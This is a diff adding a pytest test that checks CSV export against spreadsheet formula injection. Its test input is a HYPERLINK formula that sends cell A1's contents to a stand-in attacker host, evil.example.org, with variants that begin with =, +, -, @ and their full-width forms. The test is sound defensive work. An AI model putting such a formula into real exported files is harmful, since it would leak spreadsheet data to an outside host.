@@ -308,6 +308,15 @@ def test_a_surplus_cell_is_told_as_one() -> None:
         from_csv("kind,id,name,summary\nperson,a,A,s,surplus\n")
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])  # noqa: RUF001
+def test_no_cell_is_a_formula_to_a_spreadsheet(begin: str) -> None:
+    text = f'{begin}HYPERLINK("https://evil.example.org/?"&A1,"“Look”")'
+    person = Person("a", name=text, summary=f"{begin}1", aliases=(text,))
+    written = to_csv(_items([person]))
+    assert all(cell.lstrip()[:1] != begin for line in csv.reader(written.splitlines()) for cell in line)
+    assert from_csv(written) == [person]
+
+
 def test_deeply_nested_json_is_told_not_raised() -> None:
     with pytest.raises(ContentError, match="cannot be read as JSON"):
         from_json("[" * 100_000)
